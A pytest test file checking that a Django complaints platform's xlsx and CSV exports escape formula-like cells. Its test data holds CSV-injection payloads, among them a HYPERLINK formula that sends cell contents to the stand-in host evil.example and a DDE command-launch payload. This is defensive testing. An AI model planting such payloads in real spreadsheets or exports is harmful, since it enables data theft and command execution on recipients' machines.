"""Every spreadsheet the platform sends out (register, oversight exports, ITA statistics) shows a
formula-looking cell as text, in xlsx and CSV; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client

from apps.categories.models import NationalCategory
from apps.oversight.exports import export_response
from apps.ui.spreadsheet import safe_cell
from tests.apps.complaints.staff_helpers import make_case, signed_in

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "＝1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_become_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


def test_plain_values_are_untouched() -> None:
    assert [safe_cell(v) for v in ("ถนนชำรุด", "a=b", 42, -3.5, None, "")] == ["ถนนชำรุด", "a=b", 42, -3.5, None, ""]
    assert safe_cell("bad\x0bcell") == "bad\ufffdcell"


def _xlsx_cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_register_export_neutralises_formulas_in_xlsx_and_csv(banlat) -> None:  # type: ignore[no-untyped-def]
    case = make_case(banlat, name="@SUM(1+1)", description=FORMULAS[0])
    client = signed_in(banlat, "clerk")
    cells = _xlsx_cells(client.get("/staff/register/export/?format=xlsx").content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {"'" + FORMULAS[0], "'@SUM(1+1)"} <= values
    text = client.get("/staff/register/export/?format=csv").content.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == case.tracking_code)
    assert "'" + FORMULAS[0] in row and "'@SUM(1+1)" in row


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_oversight_exports_neutralise_formulas(fmt: str) -> None:
    rows = [{"name": value, "count": 7} for value in FORMULAS]
    response = export_response(fmt, title="=title", filename="t", columns=[("name", "=ชื่อ"), ("count", "จำนวน")],
                               rows=rows)
    if fmt == "xlsx":
        cells = _xlsx_cells(response.content)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        # XML reads a carriage return back as a line feed.
        expected = [v for f in FORMULAS for v in ("'" + f.replace("\r", "\n"), 7)]
        assert [c.value for c in cells] == ["'=ชื่อ", "จำนวน", *expected]
    else:
        table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert table[0] == ["'=ชื่อ", "จำนวน"]
        assert [r[0] for r in table[1:]] == ["'" + f for f in FORMULAS]


def test_ita_statistics_csv_neutralises_formulas(banlat) -> None:  # type: ignore[no-untyped-def]
    NationalCategory.objects.filter(code="road").update(name_th="=1+1")
    make_case(banlat, national="road")
    text = Client(HTTP_HOST="banlat.localhost").get("/stats.csv").content.decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(text)) if len(row) > 1]
    assert "'=1+1" in names and "=1+1" not in names
